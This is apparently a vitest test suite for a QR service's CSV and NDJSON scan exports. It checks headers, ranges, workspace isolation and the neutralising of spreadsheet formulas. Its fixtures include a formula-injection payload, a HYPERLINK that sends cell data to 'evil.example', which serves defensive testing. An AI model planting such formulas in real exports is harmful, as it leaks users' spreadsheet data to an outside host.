import { readFileSync } from 'node:fs';
import { get, type IncomingMessage } from 'node:http';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createWorkspace } from '../../../src/core/workspaces/create.ts';
import { type Call, qraClient } from '../../support/api.ts';
import { operator, startProgram, type TestProgram } from '../../support/program.ts';
import { storeHits, type ToldHit } from '../../support/stored-hits.ts';

let program: TestProgram;
let key: string;
let call: Call;
let stranger: Call;
let menu: { id: string; slug: string };
let wall: { id: string; slug: string };
let big: { id: string; slug: string };
let foreign: { id: string; slug: string };

const bigRows = 25_000;
const injections: string[] = JSON.parse(
  readFileSync(new URL('../../data/csv-injection.json', import.meta.url), 'utf8'),
).cells;
/** Names of codes are cut at their ends, and hold no control characters but these. */
const evilName = '=HYPERLINK("http://evil.example?x="&A1,"click")';

beforeAll(async () => {
  program = await startProgram();
  key = await program.key('qra');
  call = qraClient(program, key);
  const [owner] = await program.core.store.workspaces.listUsers();
  const other = await createWorkspace(program.core, operator, { name: 'Other', ownerId: owner!.id });
  stranger = qraClient(program, await program.key('qra', other));
  const make = async (by: Call, name: string) =>
    (await by('POST', '/qr', { name, destination: 'https://example.com/' })).body;
  menu = await make(call, evilName);
  foreign = await make(stranger, 'Foreign');
  wall = await make(call, 'Wall');
  big = await make(call, 'Big');
  await make(call, 'Never scanned');
  const codes = await program.core.store.codes.findByIds([menu.id, wall.id, big.id, foreign.id]);
  const codeOf = (id: string) => codes.find((code) => code.id === id)!;
  const from = Date.UTC(2026, 5, 1);
  const many = Array.from({ length: bigRows }, (_, n) => ({
    ...{ code: codeOf(big.id), at: new Date(from + n * 1_000).toISOString(), visitor: n + 1 },
    ...{ country: 'DE', region: 'Berlin', city: 'Berlin' },
  }));
  const bot: Partial<ToldHit> = { facts: { kind: 'bot', reason: 'bot_user_agent', network: 'hosting' } };
  await storeHits(program.config, [
    { code: codeOf(wall.id), at: '2026-03-02T00:00:00Z', city: 'München', referrer: 'news.example.org' },
    { code: codeOf(menu.id), at: '2026-03-01T00:00:00Z', country: 'AT', region: 'Vienna', city: '=1+1' },
    { code: codeOf(menu.id), at: '2026-03-02T00:00:00Z', ...bot },
    { code: codeOf(menu.id), at: '2026-03-03T00:00:00Z' },
    { code: codeOf(foreign.id), at: '2026-03-03T00:00:00Z' },
    ...many,
  ]);
});
afterAll(() => program.stop());

const titles = 'id,ts,code_id,slug,name,country,region,city,device,os,browser,referrer';
const march = 'since=2026-03-01&until=2026-04-01';

async function textOf(path: string): Promise<string> {
  const answer = await call('GET', path);
  expect(answer.status).toBe(200);
  return answer.body;
}

/** Lines of a CSV whose texts hold no end of line. */
const linesOf = (text: string) => {
  expect(text.endsWith('\r\n')).toBe(true);
  return text.slice(0, -2).split('\r\n');
};

const objectsOf = (text: string) =>
  text
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line));

describe('CSV', () => {
  test('of one code: a header, its scans oldest first, and text that no spreadsheet takes for a formula', async () => {
    const lines = linesOf(await textOf(`/qr/${menu.id}/scans.csv`));
    const name = `"'=HYPERLINK(""http://evil.example?x=""&A1,""click"")"`;
    expect(lines[0]).toBe(titles);
    expect(lines.slice(1).map((line) => line.replace(/^\d+,/, ''))).toEqual([
      `2026-03-01T00:00:00.000Z,${menu.id},"${menu.slug}",${name},"AT","Vienna","'=1+1","mobile","iOS","Safari",`,
      `2026-03-03T00:00:00.000Z,${menu.id},"${menu.slug}",${name},,,,"mobile","iOS","Safari",`,
    ]);
  });

  test('says what it is, and what to call the file', async () => {
    const { headers } = await call('GET', `/qr/${menu.id}/scans.csv`);
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(headers.get('content-disposition')).toBe(`attachment; filename="scans-${menu.slug}.csv"`);
    expect(headers.get('cache-control')).toBe('no-store');
    expect(headers.get('x-ratelimit-plan')).toBe('business');
  });

  test('with include=all has every hit with its facts', async () => {
    const lines = linesOf(await textOf(`/qr/${menu.id}/scans.csv?include=all`));
    expect(lines[0]).toBe(`${titles},kind,outcome,repeat,reason,network`);
    expect(lines).toHaveLength(4);
    expect(lines[2]).toMatch(/,bot,answered,false,bot_user_agent,hosting$/);
  });

  test('of the workspace: one code after the other by age, nothing of another workspace', async () => {
    const lines = linesOf(await textOf(`/scans.csv?${march}`));
    expect(lines[0]).toBe(titles);
    expect(lines.slice(1).map((line) => line.split(',')[2])).toEqual([menu.id, menu.id, wall.id]);
    const { headers, body } = await stranger('GET', '/scans.csv');
    expect(headers.get('content-disposition')).toBe('attachment; filename="scans-other.csv"');
    expect(linesOf(body)).toHaveLength(2);
    expect(body).toContain('"Foreign"');
  });

  test('without a scan is the header alone', async () => {
    expect(await textOf(`/scans.csv?since=2025-01-01&until=2025-02-01`)).toBe(`${titles}\r\n`);
  });
});

describe('NDJSON', () => {
  test('is an object a line with the same fields, told as they are', async () => {
    const answer = await call('GET', `/qr/${menu.id}/scans.ndjson`);
    expect(answer.headers.get('content-type')).toBe('application/x-ndjson');
    expect(answer.headers.get('content-disposition')).toContain(`scans-${menu.slug}.ndjson`);
    const [first, second, ...others] = objectsOf(answer.body);
    expect(others).toEqual([]);
    expect(Object.keys(first).join(',')).toBe(titles);
    expect(first).toMatchObject({ code_id: menu.id, name: evilName, city: '=1+1', referrer: null });
    expect(second).toMatchObject({ ts: '2026-03-03T00:00:00.000Z', country: null });
  });

  test('agrees with the log, and with include=all has the same facts', async () => {
    const log = (await call('GET', `/qr/${menu.id}/scans?include=all`)).body.data;
    const rows = objectsOf(await textOf(`/qr/${menu.id}/scans.ndjson?include=all`));
    const { name, slug, code_id, region, ...shared } = rows[0];
    expect({ name, slug, code_id, region }).toMatchObject({ region: 'Vienna', code_id: menu.id });
    expect(shared).toEqual(log.at(-1));
    expect(rows.map((row: { id: number }) => row.id)).toEqual(
      log.map((row: { id: number }) => row.id).reverse(),
    );
    expect(log[1]).toMatchObject({ kind: 'bot', network: 'hosting' });
  });

  test('without a scan is empty', async () => {
    expect(await textOf(`/scans.ndjson?since=2025-01-01&until=2025-02-01`)).toBe('');
  });
});

test('every scan is in it once, over many pages', async () => {
  const rows = objectsOf(await textOf(`/qr/${big.id}/scans.ndjson`));
  const ids = rows.map((row: { id: number }) => row.id);
  expect(ids).toHaveLength(bigRows);
  expect(ids).toEqual([...new Set(ids)].sort((a, b) => a - b));
  expect(linesOf(await textOf('/scans.csv'))).toHaveLength(1 + 3 + bigRows);
});

test('since is inclusive, until exclusive, a bare date 00:00 UTC', async () => {
  const count = async (query: string) => objectsOf(await textOf(`/scans.ndjson?${query}`)).length;
  expect(await count('since=2026-03-01&until=2026-03-02')).toBe(1);
  expect(await count('since=2026-03-01T00:00:00.001Z&until=2026-03-02')).toBe(0);
  expect(await count('since=2026-03-01&until=2026-03-02T00:00:00.001Z')).toBe(2);
});

test('a range that ends before it begins is refused, an empty one is empty', async () => {
  for (const path of ['/scans.csv', `/qr/${menu.id}/scans.ndjson`]) {
    const answer = await call('GET', `${path}?since=2026-03-02&until=2026-03-01`);
    expect(answer).toMatchObject({ status: 400, body: { details: [{ path: 'until' }] } });
  }
  expect(await textOf('/scans.ndjson?since=2026-03-02&until=2026-03-02')).toBe('');
});

test('tag, folder and code narrow the workspace’s as they narrow its statistics', async () => {
  const { status } = await call('PATCH', `/qr/${wall.id}`, { tags: ['hall'] });
  expect(status).toBe(200);
  const codesOf = async (query: string) =>
    objectsOf(await textOf(`/scans.ndjson?${march}&${query}`)).map((row) => row.code_id);
  expect(await codesOf('tag=hall')).toEqual([wall.id]);
  expect(await codesOf('tag=none')).toEqual([]);
  expect(await codesOf('folder=01a2000e-1f1f-7341-9e25-da414181c231')).toEqual([]);
  expect(await codesOf(`code=${wall.id}&code=${menu.id.toUpperCase()}`)).toEqual([menu.id, menu.id, wall.id]);
  expect(await codesOf(`tag=hall&code=${menu.id}`)).toEqual([]);
  for (const id of [foreign.id, 'menu'])
    expect(await call('GET', `/scans.csv?code=${id}`)).toMatchObject({
      status: 404,
      body: { code: 'not_found' },
    });
});

test('HEAD has the headers alone', async () => {
  for (const path of ['/scans.csv', `/qr/${menu.id}/scans.ndjson`]) {
    const [head, whole] = [await call('HEAD', path), await call('GET', path)];
    expect({ status: head.status, body: head.body }).toEqual({ status: 200, body: '' });
    for (const name of ['content-type', 'content-disposition'])
      expect(head.headers.get(name)).toBe(whole.headers.get(name));
    expect(head.headers.get('content-length')).toBeNull();
  }
});

test('what is wrong is JSON with the usual forms, and no file', async () => {
  for (const path of ['/scans.csv?since=soon', `/qr/${menu.id}/scans.ndjson?include=some`]) {
    const answer = await call('GET', path);
    expect(answer).toMatchObject({ status: 400, body: { code: 'validation_error' } });
    expect(answer.headers.get('content-disposition')).toBeNull();
  }
  expect(await stranger('GET', `/qr/${menu.id}/scans.csv`)).toMatchObject({
    status: 404,
    body: { code: 'not_found' },
  });
  expect(await call('POST', '/scans.csv', {})).toMatchObject({ status: 405 });
  const keyless = qraClient(program, 'qrf_live_00000000000000000000000000000000');
  expect(await keyless('GET', '/scans.csv')).toMatchObject({ status: 401 });
});

test('a reader that goes away in the middle costs others nothing', async () => {
  const options = { headers: { authorization: `Bearer ${key}` } };
  const answer = await new Promise<IncomingMessage>((resolve, reject) => {
    get(`${program.url}/api/v1/scans.csv`, options, resolve).on('error', reject);
  });
  expect(answer.statusCode).toBe(200);
  await new Promise((resolve) => answer.once('data', resolve));
  answer.destroy();
  expect((await call('GET', '/workspace')).status).toBe(200);
  expect(linesOf(await textOf(`/scans.csv?${march}`))).toHaveLength(4);
});

test('every dangerous name of the list is harmless in a file, and is the name it was', async () => {
  const names = new Set<string>();
  for (const cell of injections) {
    const answer = await call('POST', '/qr', { name: cell, destination: 'https://example.com/' });
    if (answer.status !== 201) continue;
    names.add(answer.body.name);
    const [code] = await program.core.store.codes.findByIds([answer.body.id]);
    await storeHits(program.config, [{ code: code!, at: '2026-07-01T00:00:00Z' }]);
    const text = await textOf(`/qr/${answer.body.id}/scans.csv`);
    const [, quoted = ''] =
      /^\d[^"]*"[^"]*","((?:[^"]|"")*)",/m.exec(text.slice(text.indexOf('\r\n') + 2)) ?? [];
    const read = quoted.replaceAll('""', '"');
    expect(read).not.toMatch(/^[\s\p{Cc}\p{Cf}"]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u);
    expect(read.replace(/^'/, '')).toBe(answer.body.name);
  }
  expect(names.size).toBeGreaterThan(15);
});
